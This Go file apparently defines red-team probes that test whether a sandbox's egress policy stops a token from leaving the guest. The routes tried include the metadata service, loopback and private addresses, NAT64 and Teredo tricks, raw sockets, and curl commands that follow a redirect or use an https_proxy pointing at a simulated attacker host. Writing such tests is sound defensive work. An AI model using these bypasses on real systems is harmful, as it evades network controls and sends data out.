package redteam

import (
	"fmt"
	"net/netip"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/custody-project/custody/netpolicy"
	"github.com/custody-project/custody/redteam/simnet"
)

// addressProbes send to an address, without a name.
type addressProbes struct{ *catalogue }

// all adds the probes that send to an address, without a name.
func (c addressProbes) all() {
	c.services()
	c.places()
	c.ownEnds()
	c.otherPorts()
	c.sockets()
}

// talkTo returns a task that sends its token to an address.
func (c *catalogue) talkTo(v Family, proto string, to netip.Addr, port int) *task {
	return &task{
		Do: "talk", Host: to.String(), Family: v.number(), Port: port, Proto: proto,
		Send: once("GET /" + c.token() + " HTTP/1.1\r\nHost: " + simnet.Attacker + "\r\n\r\n"),
	}
}

// services adds the probes of common internet services.
func (c addressProbes) services() {
	for _, s := range []struct {
		id, title, proto string
		port             int
		bypass           Bypass
	}{
		{"https", "TCP to port 443 of an address", "tcp", 443, AnyAddress},
		{"http", "TCP to port 80 of an address", "tcp", 80, AnyAddress},
		{"ssh", "TCP to port 22 of an address", "tcp", 22, OtherWay},
		{"smtp", "TCP to port 25 of an address", "tcp", 25, OtherWay},
		{"high-port", "TCP to a high port of an address", "tcp", 47111, OtherWay},
		{"quic", "UDP to port 443 of an address", "udp", 443, QUIC},
		{"ntp", "UDP to port 123 of an address", "udp", 123, OtherWay},
		{"wireguard", "UDP to port 51820 of an address", "udp", 51820, OtherWay},
		{"udplite", "UDP-Lite to an address", "udplite", 443, OtherWay},
	} {
		c.both("address/"+s.id, s.title, s.bypass, func(v Family) Probe {
			p := Probe{task: c.talkTo(v, s.proto, c.victim(v), s.port)}
			if s.proto == "udplite" { // not every kernel has it
				p.proof = deniedOrRefused
			}
			return p
		})
	}
}

// places adds the probes of special-purpose addresses.
func (c addressProbes) places() {
	c.both("address/metadata", "the cloud's metadata service", Metadata, func(v Family) Probe {
		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Metadata4, simnet.Metadata6), 80)}
	})
	c.both("address/lan", "a service of the host, at its address in a private network", Rebinding, func(v Family) Probe {
		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.SiteLAN4, simnet.SiteLAN6), 8080)}
	})
	c.both("address/host", "a service of the host, at its public address", ProxyPort, func(v Family) Probe {
		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Site4, simnet.Site6), 2375)}
	})
	for _, s := range []struct{ id, title, to string }{
		{"private", "a private address", "192.168.77.77"},
		{"cgnat", "an address of carrier-grade NAT", "100.64.77.77"},
		{"linklocal", "a link-local address", "169.254.77.77"},
		{"reserved", "a reserved address", "240.0.0.77"},
		{"nat64", "an IPv4 address in the NAT64 prefix", "64:ff9b::5db8:4242"},
		{"nat64-local", "an IPv4 address in the local NAT64 prefix", "64:ff9b:1::5db8:4242"},
		{"sixtofour", "an IPv4 address in a 6to4 address", "2002:5db8:4242::1"},
		{"teredo", "an IPv4 address in a Teredo address", "2001:0:5db8:4242::1"},
		{"ula", "a unique local address", "fd77::77"},
		{"documentation", "a documentation address", "2001:db8::77"},
	} {
		a := netip.MustParseAddr(s.to)
		v := familyOf(a)
		c.add(Probe{ID: "address/" + s.id, Family: v, Title: s.title, Bypass: Rebinding, task: c.talkTo(v, "tcp", a, 443)})
	}
	mapped := netip.AddrFrom16(c.victim(IPv4).As16())
	c.add(Probe{
		ID: "address/mapped", Family: IPv6, Title: "an IPv4 address through an IPv6 socket", Bypass: Rebinding,
		task: c.talkTo(IPv6, "tcp", mapped, 443), targets: []target{{"", netip.AddrPortFrom(mapped.Unmap(), 443)}},
	})
	t := c.talkTo(IPv6, "tcp", netip.MustParseAddr("fe80::77"), 443)
	t.Interface = "eth0"
	c.add(Probe{ID: "address/linklocal-v6", Family: IPv6, Title: "a link-local address", Bypass: Rebinding, task: t, proof: deniedOrRefused})
	c.both("address/multicast", "a multicast group, as DNS-SD and SSDP use them", OtherWay, func(v Family) Probe {
		t := c.talkTo(v, "udp", v.of(netip.MustParseAddr("224.0.0.251"), netip.MustParseAddr("ff02::fb")), 5353)
		if v == IPv6 {
			t.Interface = "eth0"
		}
		return Probe{task: t, proof: toAll}
	})
	for _, s := range []struct{ id, to string }{{"broadcast", "255.255.255.255"}, {"broadcast-link", "198.18.0.3"}} {
		t := c.talkTo(IPv4, "udp", netip.MustParseAddr(s.to), 67)
		t.Broadcast = true
		c.add(Probe{ID: "address/" + s.id, Family: IPv4, Title: "a broadcast, as DHCP sends", Bypass: OtherWay, task: t, proof: toAll})
	}
}

// ownEnds adds the probes of addresses that refer to the sender's own host.
func (c addressProbes) ownEnds() {
	for _, s := range []struct{ id, title, to string }{
		{"loopback-v4", "127.0.0.1, which is the guest's own loopback", "127.0.0.1"},
		{"loopback-high", "127.1.2.3, which is the guest's own loopback", "127.1.2.3"},
		{"loopback-v6", "::1, which is the guest's own loopback", "::1"},
		{"unspecified-v4", "0.0.0.0, which is the guest's own loopback", "0.0.0.0"},
		{"unspecified-v6", "::, which is the guest's own loopback", "::"},
		{"loopback-mapped", "::ffff:127.0.0.1, which is the guest's own loopback", "::ffff:127.0.0.1"},
	} {
		a := netip.MustParseAddr(s.to)
		c.add(Probe{ID: "address/" + s.id, Family: familyOf(a), Title: s.title, Bypass: ProxyPort, task: c.talkTo(familyOf(a), "tcp", a, 8080), proof: deniedOrRefused})
	}
	for _, port := range []int{22, 80, 443, 8080} {
		c.add(Probe{
			ID: fmt.Sprintf("address/gateway-%d-v4", port), Family: IPv4, Title: "another port of the resolver's address", Bypass: ProxyPort,
			task: c.talkTo(IPv4, "tcp", netpolicy.Gateway4, port),
		})
	}
	for _, port := range []int{53, 443} {
		c.add(Probe{
			ID: fmt.Sprintf("address/gateway-%d-v6", port), Family: IPv6, Title: "a port of the gateway's IPv6 address", Bypass: ProxyPort,
			task: c.talkTo(IPv6, "tcp", netpolicy.Gateway6, port),
		})
	}
	c.add(Probe{
		ID: "address/synthetic-unknown", Family: IPv4, Title: "a synthetic address without a name", Bypass: ProxyPort,
		task: c.talkTo(IPv4, "tcp", netip.MustParseAddr("198.18.200.200"), 443),
	})
	c.add(Probe{
		ID: "address/synthetic-beyond", Family: IPv4, Title: "an address next to the synthetic range", Bypass: ProxyPort,
		task: c.talkTo(IPv4, "tcp", netip.MustParseAddr("198.19.1.0"), 443),
	})
}

// otherPorts adds the probes of allowed hosts on ports and protocols that are not allowed.
func (c addressProbes) otherPorts() {
	hello := func() []piece { return once("GET /" + c.token() + " HTTP/1.1\r\nHost: h\r\n\r\n") }
	for _, s := range []struct {
		id, title, name, proto string
		port                   int
		bypass                 Bypass
	}{
		{"other-port", "another port of an allowed name", simnet.Allowed, "tcp", 8443, OtherWay},
		{"ssh-to-allowed", "SSH to a host that is allowed for HTTPS", simnet.Allowed, "tcp", 22, OtherWay},
		{"smtp-to-allowed", "SMTP to a host that is allowed for HTTPS", simnet.Allowed, "tcp", 25, OtherWay},
		{"cleartext-port", "port 80 of a host that is allowed on 443", simnet.Allowed, "tcp", 80, OtherWay},
		{"quic-to-allowed", "QUIC to an allowed name", simnet.Allowed, "udp", 443, QUIC},
		{"udp-to-plain", "UDP to a name that is allowed for TCP", simnet.Plain, "udp", 80, QUIC},
	} {
		c.add(Probe{ID: "address/" + s.id, Title: s.title, Bypass: s.bypass, task: &task{Do: "talk", Name: s.name, Port: s.port, Proto: s.proto, Send: hello()}, proof: denied})
	}
	c.both("address/direct-other-port", "another port of a direct name", OtherWay, func(v Family) Probe {
		return Probe{task: &task{Do: "talk", Name: simnet.Direct, Family: v.number(), Port: 7002, Send: hello()}, allowed: asks, proof: denied}
	})
	c.both("address/direct-other-proto", "UDP to the port that a direct name has for TCP", OtherWay, func(v Family) Probe {
		return Probe{task: &task{Do: "talk", Name: simnet.Direct, Family: v.number(), Port: 7000, Proto: "udp", Send: hello()}, allowed: asks, proof: denied}
	})
	c.both("address/direct-unasked", "the address of a direct name that was never resolved", AnyAddress, func(v Family) Probe {
		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Quiet4, simnet.Quiet6), 7000)}
	})
	c.both("address/allowed-real", "the real address of a name that the gateway serves", AnyAddress, func(v Family) Probe {
		return Probe{task: c.talkTo(v, "tcp", v.of(simnet.Allowed4, simnet.Allowed6), 443)}
	})
	p := Probe{
		ID: "address/redirect-name", Title: "a redirect from an allowed server to the attacker's name", Bypass: OtherWay, allowed: reaches,
		task: program("curl", "-sS", "-m", "20", "--cacert", "ca.pem", "-L", "https://"+simnet.Allowed+"/redirect?to=https://"+c.token()+"."+simnet.Attacker+"/"),
	}
	c.add(p)
	a := c.victim(IPv4)
	c.add(Probe{
		ID: "address/redirect-address", Title: "a redirect from an allowed server to the attacker's address", Bypass: OtherWay, allowed: reaches,
		task:    program("curl", "-sS", "-m", "20", "--connect-timeout", "5", "--cacert", "ca.pem", "-L", "https://"+simnet.Allowed+"/redirect?to=http://"+a.String()+"/"+c.token()),
		targets: []target{{"", netip.AddrPortFrom(a, 80)}},
	})
	a = c.victim(IPv4)
	c.add(Probe{
		ID: "address/proxy-variables", Title: "the attacker's proxy in the variable https_proxy", Bypass: ProxyPort,
		task: program("env", "https_proxy=http://"+a.String()+":8080", "curl", "-sS", "-m", "20", "--connect-timeout", "5", "--cacert", "ca.pem",
			"https://"+simnet.Allowed+"/"+c.token()),
		targets: []target{{"", netip.AddrPortFrom(a, 8080)}},
	})
}

func program(argv ...string) *task { return &task{Do: "program", Argv: argv} }

func familyOf(a netip.Addr) Family {
	if a.Is4() {
		return IPv4
	}
	return IPv6
}

// sockets adds the probes of socket types that can send arbitrary packets.
func (c addressProbes) sockets() {
	for _, s := range []struct {
		id, title             string
		v                     Family
		domain, socket, proto int
	}{
		{"raw-icmp-v4", "a raw socket for ICMP", IPv4, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
		{"raw-icmp-v6", "a raw socket for ICMPv6", IPv6, unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
		{"raw-ip-v4", "a raw socket for any protocol", IPv4, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW},
		{"raw-ip-v6", "a raw socket for any protocol over IPv6", IPv6, unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_RAW},
		{"raw-gre", "a raw socket for GRE", IPv4, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_GRE},
		{"sctp", "an SCTP socket", IPv4, unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP},
		{"packet", "a packet socket", "", unix.AF_PACKET, unix.SOCK_RAW, 0x0300},
		{"vsock", "a vsock socket, to the host", "", unix.AF_VSOCK, unix.SOCK_STREAM, 0},
		{"xdp", "an XDP socket", "", unix.AF_XDP, unix.SOCK_RAW, 0},
		{"ping-v4", "an ICMP echo from a ping socket", IPv4, unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
		{"ping-v6", "an ICMPv6 echo from a ping socket", IPv6, unix.AF_INET6, unix.SOCK_DGRAM, unix.IPPROTO_ICMPV6},
	} {
		t := &task{Do: "raw", Socket: []int{s.domain, s.socket, s.proto}}
		if s.v != "" {
			t.Host, t.Family = c.victim(s.v).String(), s.v.number()
			echo := "\x08" // the type of an echo request
			if s.v == IPv6 {
				echo = "\x80"
			}
			t.Send = once(strings.Repeat(echo+"\x00\x00\x00", 2) + c.token())
		}
		c.add(Probe{ID: "socket/" + s.id, Family: s.v, Title: s.title, Bypass: RawSocket, task: t, proof: deniedOrRefused})
	}
}
